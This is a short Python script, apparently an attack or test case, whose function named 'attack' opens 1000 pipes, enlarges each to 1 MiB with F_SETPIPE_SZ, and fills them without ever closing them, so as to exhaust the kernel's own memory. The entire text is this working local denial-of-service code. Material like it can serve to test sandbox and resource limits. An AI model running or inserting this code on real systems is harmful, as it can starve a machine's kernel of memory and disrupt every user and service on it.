"""Fills pipes that are as large as the kernel makes them: memory of the kernel's own."""
import fcntl
import os

def attack():
    filled = 0
    for _ in range(1000):
        reading, writing = os.pipe()
        fcntl.fcntl(writing, 1031, 1 << 20)
        os.set_blocking(writing, False)
        filled += os.write(writing, bytes(1 << 20))
    return filled
